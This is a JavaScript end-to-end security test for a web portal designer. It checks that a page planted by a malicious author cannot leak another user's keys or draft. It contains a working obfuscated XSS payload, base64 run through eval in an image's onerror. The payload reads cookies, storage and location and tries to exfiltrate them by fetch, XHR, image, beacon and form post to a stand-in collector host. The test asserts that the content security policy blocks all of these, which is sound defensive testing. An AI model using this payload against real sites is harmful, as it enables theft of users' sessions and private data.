// A page planted by one author cannot send another author's frame key, or what it reads of
// their workspace, anywhere (issue 31 item 3; docs/operations.md "Security headers and
// time-outs", "The designer's frame origin").
//
// Mallory commits a change to the Crew Portal's home page: an image whose onerror runs a script
// that reads everything it can (location, referrer, base URL, cookies, storage, the URLs of the
// loaded resources, the admin's uncommitted draft of another page) and tries to send it to an
// outside collector — a second HTTP server on another port, standing for "any host" — by fetch
// (GET and POST), XHR, an <img>, navigator.sendBeacon and a form post. The admin then opens the
// page in the designer and in a live preview. The collector must receive nothing.
//
// On the frame origin (--frame-addr) the frame's URL carries no key at all: its first URL has a
// single-use ticket (refused the second time), exchanged for an HttpOnly cookie, and nothing
// the script can read — location, referrer, base URL, cookies, resource URLs, the document —
// holds the ticket or a read token.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import fs from 'node:fs';
import { useE2E, apiSession, grantGroup, signIn, expectVisible, eventually } from '../harness/index.js';
import { designer, goTo, pageRoute, workspaceFile } from '../harness/pages.js';

const DOMAIN_ID = 1;
const PORTAL_ID = 1; // the demo Crew Portal
const MALLORY = { username: 'mallory', password: 'mallory-pass-1', firstName: 'Mallory', lastName: 'Planter', email: 'mallory@example.test' };
const DRAFT = 'Admin secret draft, not committed';
// What no URL, cookie or message the frame's script can read may hold: a read token or a ticket.
const KEYS = /pwp1\.|pwf1\./;

/** An HTTP server on another port that records every request ("any host"). */
async function startCollector() {
  const received = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      received.push({ method: req.method, url: req.url, body: body.slice(0, 2000) });
      res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' });
      res.end('ok');
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${server.address().port}`, received, close: () => new Promise((r) => server.close(r)) };
}

/** The planted script: reads what it can, tries every way out, then marks the page. */
function plantedScript(collector) {
  return `(async () => {
  const C = ${JSON.stringify(collector)};
  const blocked = new Set();
  document.addEventListener('securitypolicyviolation', (e) => blocked.add(e.effectiveDirective));
  const read = (f) => { try { return String(f()); } catch (e) { return 'blocked: ' + e.name; } };
  let draft;
  try { draft = await (await fetch('pages/crew-schedule.html', { cache: 'no-store' })).text(); } catch (e) { draft = 'blocked: ' + e.name; }
  const loot = {
    href: read(() => location.href),
    referrer: read(() => document.referrer),
    base: read(() => document.baseURI),
    cookie: read(() => document.cookie),
    storage: read(() => JSON.stringify(localStorage)),
    resources: read(() => performance.getEntries().map((e) => e.name).join(' ')),
    draft: draft.slice(0, 300),
  };
  const data = JSON.stringify(loot);
  const q = '?d=' + encodeURIComponent(data);
  const settle = (p) => Promise.race([p.catch(() => {}), new Promise((r) => setTimeout(r, 3000))]);
  const tries = [
    settle(fetch(C + '/fetch' + q, { mode: 'no-cors' })),
    settle(fetch(C + '/fetch-post', { method: 'POST', mode: 'no-cors', body: data })),
    settle(new Promise((resolve) => {
      const x = new XMLHttpRequest();
      x.onloadend = resolve;
      try { x.open('POST', C + '/xhr'); x.send(data); } catch (e) { resolve(); }
    })),
    settle(new Promise((resolve) => { const i = new Image(); i.onload = i.onerror = resolve; i.src = C + '/img' + q; })),
    settle(new Promise((resolve) => {
      const sink = document.createElement('iframe');
      sink.name = 'planted-sink';
      sink.style.display = 'none';
      document.body.appendChild(sink);
      sink.onload = resolve;
      const f = document.createElement('form');
      f.method = 'POST';
      f.action = C + '/form';
      f.target = 'planted-sink';
      const input = document.createElement('input');
      input.name = 'd';
      input.value = data;
      f.appendChild(input);
      document.body.appendChild(f);
      f.submit();
    })),
  ];
  try { navigator.sendBeacon(C + '/beacon', data); } catch (e) {} // queued: the policy refuses it when it leaves
  await Promise.all(tries);
  document.body.dataset.loot = data;
  document.body.dataset.blocked = [...blocked].sort().join(' ');
  document.body.dataset.planted = 'done';
})()`;
}

/** The home page with the planted script (an image's onerror: the engine injects pages as HTML). */
const plantedHome = (collector) =>
  `<article class="pw-page">
  <div data-pw-widget="home-hero"></div>
  <div data-pw-widget="home-cards"></div>
  <img src="planted-missing.png" alt="" onerror="eval(atob('${Buffer.from(plantedScript(collector)).toString('base64')}'))">
</article>
`;

/** Mallory commits the planted home page; the admin opens the portal (her commit in it) and drafts. */
async function plant(server, collector) {
  const admin = await apiSession(server);
  await grantGroup(admin, DOMAIN_ID, 'Planters', ['portal_read', 'portal_write', 'branch_read', 'asset_read', 'asset_write', 'asset_create', 'page_read', 'page_write', 'code_read', 'code_write'], [MALLORY.username]);
  const mallory = await apiSession(server, MALLORY.username, MALLORY.password);
  await mallory.ok('GET', `portal/${DOMAIN_ID}/${PORTAL_ID}/open`);
  const read = await mallory.call('GET', `assets/${DOMAIN_ID}/${PORTAL_ID}/src/pages/home.html`);
  assert.equal(read.status, 200, read.text);
  await mallory.ok('POST', `assets/${DOMAIN_ID}/${PORTAL_ID}/src/pages/home.html`, { data: plantedHome(collector.url) }, { headers: { 'If-Match': read.etag } });
  const commit = await mallory.ok('POST', `portal/${DOMAIN_ID}/${PORTAL_ID}/commits`, { message: 'Home page update' });
  assert.equal(commit.committed, true);
  await admin.ok('GET', `portal/${DOMAIN_ID}/${PORTAL_ID}/open`);
  // The admin's uncommitted work, which the planted script reads (the frame may read its files).
  fs.writeFileSync(workspaceFile(server, admin.userId, PORTAL_ID, 'pages/crew-schedule.html'), `<article class="pw-page"><p>${DRAFT}</p></article>\n`);
  return admin;
}

/** Waits for the planted script to finish in a frame or page, and answers what it saw. */
async function plantedReport(scope) {
  const body = scope.locator('body[data-planted="done"]');
  await expectVisible(body, { timeout: 30_000 });
  return {
    loot: JSON.parse(await body.getAttribute('data-loot')),
    blocked: (await body.getAttribute('data-blocked')).split(' ').filter(Boolean),
  };
}

/** The designer of the planted home page, as the admin, until the script is done. */
async function openPlantedDesigner(e2e) {
  const page = await e2e.newPage();
  await signIn(page);
  await goTo(page, pageRoute(DOMAIN_ID, PORTAL_ID, 'master', 'home'));
  const d = designer(page);
  await expectVisible(d.heading, { timeout: 20_000 });
  await expectVisible(d.frame.locator('[data-pw-widget="home-hero"]').first(), { timeout: 30_000 });
  return { page, d, report: await plantedReport(d.frame) };
}

/** What the planted script did: it ran and read the draft, and every way out was refused. */
function assertContained(report, collector, where) {
  assert.match(report.loot.draft, new RegExp(DRAFT), `${where}: the script read the admin's draft (it runs)`);
  const got = collector.received.map((r) => `${r.method} ${r.url.split('?')[0]}${KEYS.test(r.url + r.body) ? ' (with a key)' : ''}`);
  assert.deepEqual(got, [], `${where}: the collector received ${got.join(', ')}`);
  for (const directive of ['connect-src', 'form-action', 'img-src']) {
    assert.ok(report.blocked.includes(directive), `${where}: the policy refused ${directive} (refused: ${report.blocked})`);
  }
}

describe('frame security: a planted page on the app origin', { timeout: 300_000 }, () => {
  // The whole browser: its headless shell reports no form-action violation of the frame's policy.
  const e2e = useE2E({ server: { users: [MALLORY] }, fullBrowser: true });
  let collector;
  let admin;

  before(async () => {
    collector = await startCollector();
    admin = await plant(e2e.server, collector);
  });
  after(() => collector?.close());

  it('sends nothing out of the designer frame', { timeout: 120_000 }, async () => {
    collector.received.length = 0;
    const { report } = await openPlantedDesigner(e2e);
    assertContained(report, collector, 'designer');
  });

  it('sends nothing out of a live preview', { timeout: 120_000 }, async () => {
    collector.received.length = 0;
    // The admin's API session ended when the browser signed in: a new one (previews persist).
    admin = await apiSession(e2e.server);
    let preview = await admin.ok('POST', `preview/${DOMAIN_ID}/${PORTAL_ID}`, { type: 'PORTAL_LIVE', page: 'home' });
    await eventually(async () => {
      preview = await admin.ok('GET', `preview/${DOMAIN_ID}/${PORTAL_ID}/${preview.id}`);
      assert.equal(preview.status, 'READY');
    }, { timeout: 60_000, message: 'the live preview becomes ready' });
    const viewer = await e2e.newPage();
    await viewer.goto(preview.link);
    assertContained(await plantedReport(viewer), collector, 'live preview');
  });
});

describe('frame security: the designer frame on its own origin (--frame-addr)', { timeout: 300_000 }, () => {
  const e2e = useE2E({ server: { users: [MALLORY], args: ['--frame-addr', '127.0.0.1:0'] }, fullBrowser: true });
  let collector;

  before(async () => {
    collector = await startCollector();
    await plant(e2e.server, collector);
  });
  after(() => collector?.close());

  it('no key in any URL the frame can read, a single-use ticket, and nothing sent out', { timeout: 120_000 }, async () => {
    const { page, d, report } = await openPlantedDesigner(e2e);
    assertContained(report, collector, 'designer on the frame origin');

    // The frame has an origin of its own, not the app's.
    const src = await d.frameElement.getAttribute('src');
    const frameOrigin = new URL(src).origin;
    assert.notEqual(frameOrigin, new URL(e2e.server.baseURL).origin);
    assert.match(src, /\/api\/v1\/workspace\/pwf1\.[^/]+\/1\/1\//, `the iframe's src has a ticket: ${src}`);

    // Nothing the script could read holds a key: its location, referrer, base URL, cookies,
    // resource URLs, nor anything in its document.
    for (const [what, value] of Object.entries(report.loot)) {
      assert.doesNotMatch(value, KEYS, `the frame's ${what} holds a key: ${value.slice(0, 300)}`);
    }
    assert.ok(report.loot.href.startsWith(`${frameOrigin}/api/v1/workspace/frame/1/1/`), `the frame's location: ${report.loot.href}`);
    assert.equal(report.loot.cookie, '', 'the cookie is HttpOnly');
    const frame = page.frames().find((f) => f.url().startsWith(frameOrigin));
    assert.ok(frame, 'the frame is on the frame origin');
    const seen = await frame.evaluate(() => ({
      html: document.documentElement.outerHTML,
      navigation: performance.getEntriesByType('navigation').map((e) => e.name).join(' '),
      history: String(history.length),
    }));
    for (const [what, value] of Object.entries(seen)) assert.doesNotMatch(value, KEYS, `the frame's ${what} holds a key`);

    // The ticket was used once: the same URL again is refused.
    const again = await fetch(src, { redirect: 'manual' });
    assert.equal(again.status, 401, 'a used ticket is refused');
    assert.equal(again.headers.get('set-cookie'), null);

    // The designer still works there: the engine's outlines reach the app.
    await expectVisible(d.outline('home-hero'), { timeout: 20_000 });
  });
});
